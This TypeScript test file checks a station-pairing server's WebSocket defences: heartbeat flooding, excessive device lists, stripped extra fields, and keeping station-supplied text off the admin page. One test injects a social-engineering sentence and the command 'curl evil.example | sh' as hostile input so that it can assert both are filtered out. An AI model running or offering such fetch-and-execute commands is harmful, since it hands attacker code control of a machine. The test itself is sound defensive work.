import type { Static } from 'typebox'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { WebSocket } from 'ws'
import { STATION_SOCKET_PATH, type StationMessage } from '../../hardware/station/messages.ts'
import type { Stations } from '../../server/stations/schema.ts'
import { signIn, type Person } from '../support/cards.ts'
import { startTestServer, type TestServer } from '../support/server.ts'
import { listen, until } from '../support/stations.ts'

let server: TestServer
let administrator: Person
let url: string

beforeAll(async () => {
  server = await startTestServer()
  administrator = await signIn(server, ['administrator'])
  url = await listen(server)
})
afterAll(() => server.stop())

async function link(
  name: string,
): Promise<{ send: (message: StationMessage) => void; closed: Promise<unknown> }> {
  const offer = await administrator.client.post<{ code: string }>('/stations/pairing-codes', {
    simulated: true,
  })
  const pairing = { code: offer.body.code, name }
  const { body } = await server.client().post<{ token: string }>('/stations/pair', pairing)
  const headers = { authorization: `Bearer ${body.token}` }
  const socket = new WebSocket(url.replace('http', 'ws') + STATION_SOCKET_PATH, { headers })
  await new Promise((resolve) => socket.once('open', resolve))
  const closed = new Promise((resolve) => socket.once('close', resolve))
  return { send: (message) => socket.send(JSON.stringify(message)), closed }
}

const after = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))

const device = (name: string) =>
  ({ name, kind: 'nfc-reader', simulated: true, mode: 'tap', state: 'ready' }) as const

test('a station that reports more than hands can do is cut off', async () => {
  const { send, closed } = await link('Loud')
  for (let seq = 1; seq <= 2_001; seq += 1) send({ type: 'heartbeat' })
  const alive = setInterval(() => send({ type: 'heartbeat' }), 500) // silence would cut it off as well
  expect(await Promise.race([closed.then(() => 'cut off'), after(5_000)])).toBe('cut off')
  clearInterval(alive)
  expect((await administrator.client.get('/stations')).status).toBe(200)
})

test('a station that tells of more devices than a desk has is cut off', async () => {
  const { send, closed } = await link('Wide')
  const devices = Array.from({ length: 65 }, (_, number) => device(`Reader ${number}`))
  send({ type: 'hello', stationVersion: '1', devices })
  await closed
  const other = await link('Tall')
  other.send({ type: 'hello', stationVersion: '1', devices: [] })
  for (let number = 0; number < 65; number += 1)
    other.send({ type: 'card-present', reader: `Reader ${number}`, seq: 1 })
  await other.closed
})

test('what a station adds to its devices does not reach the office’s page, and does not break it', async () => {
  const { send } = await link('Chatty')
  const chattering = Object.assign(device('Reader'), { trouble: { code: 5, at: 'never' } })
  send({ type: 'hello', stationVersion: '1', devices: [chattering] })
  const chatty = await until('the station', async () => {
    const { status, body } = await administrator.client.get<{
      stations: { name: string; devices: object[] }[]
    }>('/stations')
    expect(status).toBe(200)
    return body.stations.find(({ name, devices }) => name === 'Chatty' && devices.length > 0)
  })
  expect(chatty.devices).toEqual([device('Reader')])
})

const see = async () => (await administrator.client.get<Static<typeof Stations>>('/stations')).body

test('a station puts no words on the office page: what is missing there is told by code', async () => {
  const { send } = await link('Talkative')
  send({ type: 'hello', stationVersion: 'test', devices: [] })
  const words = { sentence: 'Call 555 0199 and read your password out.', install: 'curl evil.example | sh' }
  send({ type: 'driver-missing', driver: 'pcscd', system: 'windows', ...words })
  send({ type: 'driver-missing', driver: 'serialport', ...words })
  const told = await until('two notices', async () => {
    const notices = (await see()).stations.find(({ name }) => name === 'Talkative')?.notices
    return notices?.length === 2 && notices
  })
  expect(told).toEqual([
    { driver: 'pcscd', system: 'windows' },
    { driver: 'serialport', system: 'other' },
  ])
  expect(JSON.stringify(await see())).not.toContain('evil')
})
